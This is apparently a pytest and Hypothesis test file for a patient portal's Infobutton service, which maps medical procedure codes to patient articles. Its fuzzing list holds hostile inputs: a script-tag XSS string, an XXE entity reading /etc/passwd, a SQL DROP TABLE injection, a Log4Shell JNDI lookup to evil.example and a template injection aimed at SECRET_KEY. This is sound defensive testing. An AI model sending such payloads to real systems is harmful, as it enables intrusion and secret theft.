"""The Infobutton service and the /code/ pages, against the request parameters MedlinePlus Connect
documents: mainSearchCriteria.v.cs (code system OID), mainSearchCriteria.v.c (code),
mainSearchCriteria.v.dn (display name), informationRecipient.languageCode.c (en or es) and
knowledgeResponseType (text/xml, the default; application/json; application/javascript for JSONP).
"""

from __future__ import annotations

import json
import logging
import xml.etree.ElementTree as ET
from urllib.parse import quote, urlencode

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from portal import languages

SITE = "https://patients.clinic.example"
ATOM = "{http://www.w3.org/2005/Atom}"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
CPT = "2.16.840.1.113883.6.12"
SNOMED_CT = "2.16.840.1.113883.6.96"
HCPCS = "2.16.840.1.113883.6.285"
ICD_10_PCS = "2.16.840.1.113883.6.4"
ICD_10_CM = "2.16.840.1.113883.6.90"  # diagnoses, not procedures
SURGERY = f"{SITE}/procedures/open-surgery/"
# A request for a code the fixture files under one article (open surgery).
BOOKED = {"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "63185"}
INJECTION = f"{SITE}/procedures/nerve-injection/"


@pytest.fixture
def site_url(settings) -> str:
    settings.SITE_URL = SITE
    return SITE


def ask(client, params: dict[str, str] | list[tuple[str, str]] | str, **kwargs):
    query = params if isinstance(params, str) else urlencode(params)
    return client.get(f"{reverse('portal:infobutton')}?{query}", **kwargs)


def parse_xml(response) -> ET.Element:
    return ET.fromstring(response.content)  # noqa: S314 (the portal's own answer, under test)


def atom_entries(response) -> list[ET.Element]:
    feed = parse_xml(response)
    assert feed.tag == f"{ATOM}feed"
    return feed.findall(f"{ATOM}entry")


def links(response) -> list[str]:
    return [e.find(f"{ATOM}link").get("href") for e in atom_entries(response)]


def json_entries(response) -> list[dict]:
    return response.json()["feed"]["entry"]


# The answer: Atom by default


def test_a_code_gets_an_atom_feed_of_its_article(client, coded, site_url):
    response = ask(client, BOOKED)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    [entry] = atom_entries(response)
    assert entry.get(XML_LANG) == "en"
    assert entry.findtext(f"{ATOM}title") == "Open surgery"
    link = entry.find(f"{ATOM}link")
    assert link.attrib == {
        "href": SURGERY,
        "rel": "alternate",
        "type": "text/html",
        "hreflang": "en",
        "title": "Open surgery",
    }
    assert entry.findtext(f"{ATOM}summary") == "What happens in an open operation on the spine."
    assert entry.findtext(f"{ATOM}id") == SURGERY
    # Reviewed articles carry their review date.
    assert entry.findtext(f"{ATOM}updated") == "2026-03-01T00:00:00Z"


def test_the_feed_echoes_the_request_as_connect_does(client, coded, site_url):
    response = ask(client, {**BOOKED, "mainSearchCriteria.v.dn": "Laminectomy & rhizotomy <L4>"})
    feed = parse_xml(response)
    categories = {c.get("scheme"): c.get("term") for c in feed.findall(f"{ATOM}category")}
    assert categories == {
        "mainSearchCriteria.v.c": "63185",
        "mainSearchCriteria.v.cs": CPT,
        "mainSearchCriteria.v.dn": "Laminectomy & rhizotomy <L4>",
        "informationRecipient.languageCode.c": "en",
    }
    assert feed.findtext(f"{ATOM}subtitle") == "Pages for CPT 63185"
    assert feed.findtext(f"{ATOM}id") == (
        f"{SITE}/infobutton/?mainSearchCriteria.v.cs={CPT}&mainSearchCriteria.v.c=63185"
    )
    # An article not yet reviewed is as new as the loaded content; the feed as its newest entry.
    injection = ask(
        client, {"mainSearchCriteria.v.cs": SNOMED_CT, "mainSearchCriteria.v.c": "387713003"}
    )
    assert atom_entries(injection)[0].findtext(f"{ATOM}updated") == "2026-05-04T03:02:01Z"
    assert feed.findtext(f"{ATOM}updated") == "2026-03-01T00:00:00Z"


def test_one_code_may_lead_to_several_articles(client, coded, site_url):
    response = ask(client, {"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "63190"})
    assert links(response) == [SURGERY, INJECTION]


@pytest.mark.parametrize(
    ("system", "code", "expected"),
    [
        (CPT, "63185", SURGERY),
        (HCPCS, "G0260", INJECTION),
        (ICD_10_PCS, "01580ZZ", SURGERY),
        (SNOMED_CT, "387713003", INJECTION),
        # Names as well as OIDs, and codes as people type them.
        ("CPT", "63185", SURGERY),
        ("urn:oid:2.16.840.1.113883.6.12", "63185", SURGERY),
        ("snomed-ct", "387713003", INJECTION),
        (CPT, " 63185 ", SURGERY),
        (ICD_10_PCS, "01580zz", SURGERY),
        (HCPCS, "g0260", INJECTION),
    ],
)
def test_every_code_system_is_answered(client, coded, site_url, system, code, expected):
    response = ask(client, {"mainSearchCriteria.v.cs": system, "mainSearchCriteria.v.c": code})
    assert links(response) == [expected]


@pytest.mark.parametrize("response_type", ["", "text/xml", "TEXT/XML"])
def test_text_xml_is_the_default(client, coded, response_type):
    response = ask(client, {**BOOKED, "knowledgeResponseType": response_type})
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    assert len(atom_entries(response)) == 1


def test_atom_may_be_asked_for_by_its_own_type(client, coded):
    response = ask(client, {**BOOKED, "knowledgeResponseType": "application/atom+xml"})
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    assert len(atom_entries(response)) == 1


@pytest.mark.parametrize("code", ["63186", "99999"])
def test_no_match_is_an_empty_feed_not_an_error(client, coded, code):
    response = ask(client, {"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": code})
    assert response.status_code == 200
    assert atom_entries(response) == []
    as_json = ask(
        client,
        {
            "mainSearchCriteria.v.cs": CPT,
            "mainSearchCriteria.v.c": code,
            "knowledgeResponseType": "application/json",
        },
    )
    assert as_json.status_code == 200
    assert json_entries(as_json) == []


def test_the_other_parameters_of_the_infobutton_standard_are_ignored(client, coded, site_url):
    response = ask(
        client,
        {
            "representedOrganization.id.root": "1.2.3.4",
            "taskContext.c.c": "PROBLISTREV",
            **BOOKED,
            "mainSearchCriteria.v.dn": "Rhizotomy",
            "patientPerson.administrativeGenderCode.c": "F",
            "age.v.v": "45",
            "age.v.u": "a",
            "informationRecipient": "PAT",
            "performer": "PROV",
            "encounter.c.c": "AMB",
        },
    )
    assert links(response) == [SURGERY]


# JSON


def test_json_has_the_shape_connect_answers_with(client, coded, site_url):
    response = ask(client, {**BOOKED, "knowledgeResponseType": "application/json"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    feed = response.json()["feed"]
    assert feed["title"]["_value"].endswith("patient information")
    assert feed["subtitle"]["_value"] == "Pages for CPT 63185"
    assert feed["updated"]["_value"] == "2026-03-01T00:00:00Z"
    assert {"scheme": "mainSearchCriteria.v.c", "term": "63185"} in feed["category"]
    [entry] = feed["entry"]
    assert entry == {
        "lang": "en",
        "title": {"_value": "Open surgery", "type": "text"},
        "link": [
            {
                "title": "Open surgery",
                "rel": "alternate",
                "type": "html",
                "hreflang": "en",
                "href": SURGERY,
            }
        ],
        "id": {"_value": SURGERY},
        "updated": {"_value": "2026-03-01T00:00:00Z"},
        "summary": {"_value": "What happens in an open operation on the spine.", "type": "text"},
    }


def test_any_web_page_may_read_the_answer(client, coded):
    response = ask(client, {**BOOKED, "knowledgeResponseType": "application/json"})
    assert response["Access-Control-Allow-Origin"] == "*"


# Language


@pytest.mark.parametrize(
    ("sent", "asked"),
    [
        ("en", "en"),
        ("en-US", "en"),
        ("es", "es"),
        ("es-MX", "es"),
        ("ES_419", "es"),
        ("spa", "es"),
        ("fr", "en"),
        ("", "en"),
    ],
)
def test_with_only_english_pages_every_language_gets_english_marked_as_such(
    client, coded, site_url, sent, asked
):
    response = ask(
        client,
        {
            **BOOKED,
            "informationRecipient.languageCode.c": sent,
            "knowledgeResponseType": "application/json",
        },
    )
    feed = response.json()["feed"]
    [entry] = feed["entry"]
    assert entry["link"][0]["href"] == SURGERY
    assert entry["lang"] == entry["link"][0]["hreflang"] == "en"
    assert {"scheme": "informationRecipient.languageCode.c", "term": asked} in feed["category"]


def test_a_page_in_the_asked_language_is_linked_and_marked(client, coded, site_url, monkeypatch):
    """Where a Spanish page exists, the one function that decides addresses gives it."""

    def spanish_where_asked(procedure, lang):
        if lang == "es":
            return f"{SITE}/es/procedimientos/{procedure.slug}/", "es"
        return f"{SITE}{procedure.get_absolute_url()}", "en"

    monkeypatch.setattr(languages, "localized_url", spanish_where_asked)
    [entry] = atom_entries(ask(client, {**BOOKED, "informationRecipient.languageCode.c": "es"}))
    link = entry.find(f"{ATOM}link")
    assert link.get("href") == f"{SITE}/es/procedimientos/open-surgery/"
    assert link.get("hreflang") == entry.get(XML_LANG) == "es"
    # The entry keeps its one lasting id, whatever the language.
    assert entry.findtext(f"{ATOM}id") == SURGERY
    assert links(ask(client, {**BOOKED, "informationRecipient.languageCode.c": "en"})) == [SURGERY]


# Errors: 400 in the format asked for, with a message


BAD_REQUESTS = [
    (
        {"mainSearchCriteria.v.c": "63185"},
        "mainSearchCriteria.v.cs (the code system's OID) is required",
    ),
    ({"mainSearchCriteria.v.cs": CPT}, "mainSearchCriteria.v.c (the procedure code) is required"),
    (
        {"mainSearchCriteria.v.cs": ICD_10_CM, "mainSearchCriteria.v.c": "M54.5"},
        "not a code system this service answers",
    ),
    ({"mainSearchCriteria.v.cs": "LOINC", "mainSearchCriteria.v.c": "63185"}, "not a code system"),
    (
        {"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "6318"},
        "is not a CPT code: those are five digits",
    ),
    ({"mainSearchCriteria.v.cs": ICD_10_PCS, "mainSearchCriteria.v.c": "01580ZO"}, "never I or O"),
    (
        {**BOOKED, "informationRecipient.languageCode.c": "en US!"},
        "must be a language code",
    ),
    (
        {"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "6" * 201},
        "longer than 200 characters",
    ),
    (
        {**BOOKED, "mainSearchCriteria.v.dn": "x" * 201},
        "mainSearchCriteria.v.dn is longer",
    ),
    ({"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "63185\x00"}, "control characters"),
    (
        {**BOOKED, "mainSearchCriteria.v.dn": "a\x1b[31mb"},
        "control characters",
    ),
    (
        {"mainSearchCriteria.v.cs": CPT + "\n", "mainSearchCriteria.v.c": "63185"},
        "control characters",
    ),
    ({"mainSearchCriteria.v.cs": CPT, "mainSearchCriteria.v.c": "٦٣١٨٥"}, "is not a CPT code"),
]


@pytest.mark.parametrize(("params", "message"), BAD_REQUESTS)
def test_a_malformed_request_gets_400_in_xml(client, coded, params, message):
    response = ask(client, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    error = parse_xml(response)
    assert error.tag == "error"
    assert message in error.findtext("message")


@pytest.mark.parametrize(("params", "message"), BAD_REQUESTS)
def test_a_malformed_request_gets_400_in_json_when_json_was_asked(client, coded, params, message):
    response = ask(client, {**params, "knowledgeResponseType": "application/json"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"]["status"] == 400
    assert message in response.json()["error"]["message"]


def test_a_repeated_parameter_with_different_values_is_refused(client, coded):
    query = [
        ("mainSearchCriteria.v.cs", CPT),
        ("mainSearchCriteria.v.c", "63185"),
        ("mainSearchCriteria.v.c", "63190"),
        ("knowledgeResponseType", "application/json"),
    ]
    response = ask(client, query)
    assert response.status_code == 400
    assert response.json()["error"]["message"] == (
        "mainSearchCriteria.v.c is given more than once, with different values."
    )


def test_a_parameter_repeated_with_the_same_value_is_fine(client, coded, site_url):
    query = [
        ("mainSearchCriteria.v.cs", CPT),
        ("mainSearchCriteria.v.c", "63185"),
        ("mainSearchCriteria.v.c", "63185"),
    ]
    assert links(ask(client, query)) == [SURGERY]


def test_two_response_types_are_refused_in_xml(client, coded):
    query = [
        ("mainSearchCriteria.v.cs", CPT),
        ("mainSearchCriteria.v.c", "63185"),
        ("knowledgeResponseType", "application/json"),
        ("knowledgeResponseType", "text/xml"),
    ]
    response = ask(client, query)
    assert response.status_code == 400
    assert "knowledgeResponseType is given more than once" in parse_xml(response).findtext(
        "message"
    )


@pytest.mark.parametrize("response_type", ["text/html", "application/xml+evil", "*/*"])
def test_an_unknown_response_type_is_refused(client, coded, response_type):
    response = ask(client, {**BOOKED, "knowledgeResponseType": response_type})
    assert response.status_code == 400
    message = parse_xml(response).findtext("message")
    assert message == (
        "knowledgeResponseType must be one of text/xml, application/atom+xml, application/json."
    )


@pytest.mark.parametrize("response_type", ["application/javascript", "text/javascript"])
def test_jsonp_is_refused_clearly_and_nothing_runs(client, coded, response_type):
    response = ask(
        client,
        {
            **BOOKED,
            "knowledgeResponseType": response_type,
            "callback": "alert",
        },
    )
    assert response.status_code == 400
    # JSON, which a <script> element will not run (and nosniff stops it being tried).
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "alert" not in response.text
    assert "Ask for application/json" in response.json()["error"]["message"]


def test_too_many_parameters_is_a_400_not_a_server_error(client, coded, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 10
    query = [("mainSearchCriteria.v.cs", CPT)] + [(f"x{i}", "1") for i in range(20)]
    response = ask(client, query)
    assert response.status_code == 400
    assert parse_xml(response).findtext("message") == ("The request has too many parameters.")


# Caching and privacy


def test_answers_are_public_and_revalidate_with_an_etag(client, coded):
    response = ask(client, BOOKED)
    directives = {d.strip() for d in response["Cache-Control"].split(",")}
    assert "public" in directives
    assert any(d.startswith("max-age=") for d in directives)
    assert not response.cookies
    again = ask(client, BOOKED, headers={"If-None-Match": response["ETag"]})
    assert again.status_code == 304


def test_errors_are_neither_cached_nor_versioned(client, coded):
    response = ask(client, {"mainSearchCriteria.v.cs": CPT})
    assert response.status_code == 400
    assert not response.has_header("ETag")
    assert "public" not in response.get("Cache-Control", "")
    assert not response.cookies


def test_head_is_answered_and_post_is_not(client, coded):
    assert client.head(f"/infobutton/?{urlencode(BOOKED)}").status_code == 200
    assert client.post(f"/infobutton/?{urlencode(BOOKED)}").status_code == 405


REQUESTS_WITH_A_CODE = [
    (
        "/infobutton/?mainSearchCriteria.v.cs=2.16.840.1.113883.6.12&mainSearchCriteria.v.c=63177",
        "get",
    ),
    (
        "/infobutton/?mainSearchCriteria.v.cs=2.16.840.1.113883.6.90&mainSearchCriteria.v.c=63177",
        "get",
    ),
    (
        "/infobutton/?mainSearchCriteria.v.cs=2.16.840.1.113883.6.12&mainSearchCriteria.v.c=63177",
        "post",
    ),
    ("/code/cpt/63177/", "get"),
    ("/code/cpt/63177/", "post"),
    ("/code/nonsense/63177/", "get"),
    ("/CODE/cpt/63177/", "get"),
]


@pytest.mark.parametrize(("path", "method"), REQUESTS_WITH_A_CODE)
def test_no_log_record_holds_the_code(client, coded, caplog, path, method):
    with caplog.at_level(logging.DEBUG):
        response = getattr(client, method)(path)
    assert response.status_code in {200, 400, 404, 405}
    for record in caplog.records:
        assert "63177" not in record.getMessage()
        assert (
            getattr(record, "request", None) is None
            or "63177" not in record.request.get_full_path()
        )


def test_the_not_found_line_is_logged_without_the_code(client, coded, caplog):
    with caplog.at_level(logging.WARNING, logger="django.request"):
        client.get("/code/cpt/63177/")
    assert [r.getMessage() for r in caplog.records] == ["Not Found: /code/[redacted]"]


# /code/<system>/<code>/ for people


@pytest.mark.parametrize(
    "path",
    [
        "/code/cpt/63185/",
        "/code/CPT/63185/",
        f"/code/{CPT}/63185/",
        "/code/icd-10-pcs/01580zz/",
        "/code/hcpcs/G0260/",
        "/code/snomed-ct/387713003/",
        f"/code/{quote('SNOMED CT')}/387713003/",
    ],
)
def test_a_code_with_one_article_opens_it(client, coded, site_url, path):
    response = client.get(path)
    assert response.status_code == 302
    expected = INJECTION if ("387713003" in path or "G0260" in path) else SURGERY
    assert response["Location"] == expected
    assert not response.cookies


def test_a_code_with_several_articles_offers_a_choice(client, coded, site_url):
    response = client.get(reverse("portal:by_code", args=["cpt", "63190"]))
    assert response.status_code == 200
    assert "public" in response["Cache-Control"]
    assert not response.cookies
    html = BeautifulSoup(response.text, "html.parser")
    assert html.h1.get_text() == "Which page do you need?"
    assert [a["href"] for a in html.select(".cards h2 a")] == [SURGERY, INJECTION]
    assert html.find("meta", attrs={"name": "robots"})["content"] == "noindex"


@pytest.mark.parametrize(
    "path",
    [
        "/code/cpt/99999/",
        "/code/loinc/63185/",
        "/code/cpt/6318/",
        "/code/cpt/%00/",
        "/code/%00/63185/",
    ],
)
def test_no_article_is_a_friendly_not_found_page(client, coded, site_url, path):
    response = client.get(path)
    assert response.status_code == 404
    html = BeautifulSoup(response.text, "html.parser")
    assert html.h1.get_text() == "We have no page for this code"
    assert [a["href"] for a in html.select(".cards h2 a")] == [SURGERY, INJECTION]


# Whatever is sent, the answer is never a server error

NAMES = [
    "mainSearchCriteria.v.cs",
    "mainSearchCriteria.v.c",
    "mainSearchCriteria.v.dn",
    "informationRecipient.languageCode.c",
    "knowledgeResponseType",
    "callback",
]
HOSTILE = [
    CPT,
    SNOMED_CT,
    "63185",
    "63190",
    "01580ZZ",
    "application/json",
    "application/javascript",
    "text/xml",
    "es",
    "en-US",
    "",
    "\x00",
    "\ufffe",
    "\u202e63185",
    "\uff16\uff13\uff11\uff18\uff15",  # full-width digits
    "x" * 5000,
    "<script>alert(1)</script>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "'; DROP TABLE portal_procedurecode; --",
    "${jndi:ldap://evil.example/a}",
    "{{ settings.SECRET_KEY }}",
]
values = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE))
queries = st.one_of(
    st.lists(st.tuples(st.sampled_from(NAMES) | values, values), max_size=10).map(urlencode),
    st.lists(st.sampled_from(["=", "&", "%", "%zz", "%ff", "%00", "+", ";", *NAMES]) | values).map(
        "".join
    ),
)
reads_only = hypothesis_settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@reads_only
@example(query="mainSearchCriteria.v.cs=2.16.840.1.113883.6.12&mainSearchCriteria.v.c=%00")
@example(query="mainSearchCriteria.v.cs=%ff%fe&mainSearchCriteria.v.c=63185")
@example(query="knowledgeResponseType=application/json&mainSearchCriteria.v.dn=%ef%bf%be")
@example(
    query="mainSearchCriteria.v.cs=CPT&mainSearchCriteria.v.c=63185&mainSearchCriteria.v.dn=%ed%a0%80"
)
@given(query=queries)
def test_no_request_gives_a_server_error(client, coded, query):
    response = client.get(f"/infobutton/?{query}")
    assert response.status_code in {200, 400}, (query, response.status_code)
    if response["Content-Type"] == "application/json":
        json.loads(response.content)
    else:
        parse_xml(response)


@reads_only
@example(system="cpt", code="\x00")
@given(system=values, code=values)
def test_no_code_address_gives_a_server_error(client, coded, system, code):
    path = f"/code/{quote(system, safe='')}/{quote(code, safe='')}/"
    response = client.get(path)
    assert response.status_code in {200, 302, 404}, (path, response.status_code)


def test_an_error_for_an_atom_request_is_plain_xml(client, coded):
    response = ask(
        client, {"mainSearchCriteria.v.cs": CPT, "knowledgeResponseType": "application/atom+xml"}
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    assert parse_xml(response).tag == "error"


# From the articles' front matter to the answer


def test_codes_in_front_matter_are_answered_once_loaded(
    client, content_copy, load_folder, site_url
):
    article = content_copy / "procedures" / "rhizotomy-injection.md"
    added = (
        '\n[[code]]\nsystem = "2.16.840.1.113883.6.96"\ncode = "387713003"\ndescription = "Test"\n'
    )
    article.write_text(article.read_text().replace("\n[[code]]", added + "\n[[code]]", 1))

    load_folder(content_copy)

    by_oid = ask(
        client, {"mainSearchCriteria.v.cs": SNOMED_CT, "mainSearchCriteria.v.c": "387713003"}
    )
    assert links(by_oid) == [f"{SITE}/procedures/rhizotomy-injection/"]
    shared = ask(client, {**BOOKED, "knowledgeResponseType": "application/json"})
    assert {e["link"][0]["href"] for e in json_entries(shared)} == {
        f"{SITE}/procedures/surgical-rhizotomy/",
        f"{SITE}/procedures/dorsal-rhizotomy-back-pain/",
    }
    assert client.get("/code/snomed-ct/387713003/")["Location"] == (
        f"{SITE}/procedures/rhizotomy-injection/"
    )
